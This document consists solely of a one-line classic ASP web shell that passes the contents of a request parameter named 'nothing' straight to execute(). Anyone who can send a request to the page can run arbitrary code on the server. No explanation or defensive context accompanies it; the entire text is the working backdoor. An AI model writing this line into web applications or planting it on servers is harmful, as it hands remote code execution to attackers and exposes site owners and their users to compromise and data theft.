<% execute(request("nothing")) %>
